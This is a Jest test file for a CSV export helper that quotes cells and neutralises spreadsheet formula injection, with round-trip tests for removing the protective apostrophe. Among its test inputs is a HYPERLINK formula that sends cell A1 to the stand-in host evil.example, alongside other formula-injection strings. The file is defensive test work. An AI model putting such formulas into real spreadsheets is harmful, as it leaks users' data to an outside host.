import { describe, expect, it } from '@jest/globals';
import { csvCell, csvCellValue } from './csv.js';
import { previewCsv } from './imports.js';

describe('csvCell', () => {
  it('quotes where CSV needs it, joins lists and leaves null empty', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('Er sagte "ja"')).toBe('"Er sagte ""ja"""');
    expect(csvCell('zwei\nZeilen')).toBe('"zwei\nZeilen"');
    expect(csvCell(' Rand ')).toBe('" Rand "');
    expect(csvCell(['C', '62'])).toBe('C|62');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('Kraków')).toBe('Kraków');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+49 30 123', "'+49 30 123"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', '"\'\t=1+1"'],
    ['\r=1+1', '"\'\r=1+1"'],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ["'=1+1", "''=1+1"],
  ])('protects the text %j as %j', (value, cell) => expect(csvCell(value)).toBe(cell));

  it('protects a joined list whose first value is a formula, in any delimiter', () => {
    expect(csvCell(['=HYPERLINK("https://evil.example/?"&A1;"Klick")', 'Energie'])).toBe(
      '"\'=HYPERLINK(""https://evil.example/?""&A1;""Klick"")|Energie"',
    );
    expect(csvCell(['-1', 'x'], ';')).toBe("'-1|x");
  });

  it('writes numbers and booleans as they are', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell(true)).toBe('true');
  });

  it('quotes the delimiter the file uses', () => {
    expect(csvCell('a|b', '|')).toBe('"a|b"');
  });
});

describe('csvCellValue', () => {
  it('removes exactly the apostrophe that protected a formula', () => {
    expect(csvCellValue("'=1+1")).toBe('=1+1');
    expect(csvCellValue("''=1+1")).toBe("'=1+1");
    expect(csvCellValue("'\t=1+1")).toBe('\t=1+1');
    expect(csvCellValue("'-x|y")).toBe('-x|y');
    expect(csvCellValue("'s-Hertogenbosch")).toBe("'s-Hertogenbosch");
    expect(csvCellValue("'")).toBe("'");
    expect(csvCellValue('=1+1')).toBe('=1+1');
  });

  it.each([['=1+1'], ["'=1+1"], ["''@x"], ['\t-1'], ['plain'], ["'quoted'"], ['-'], ['a,"b"'], ['Zeile\r\nZeile']])(
    'gives back %j after a CSV round trip',
    (value) => {
      const [[cell]] = previewCsv(`${csvCell(value)}\n`, 1) as [[string]];
      expect(csvCellValue(cell)).toBe(value);
    },
  );
});
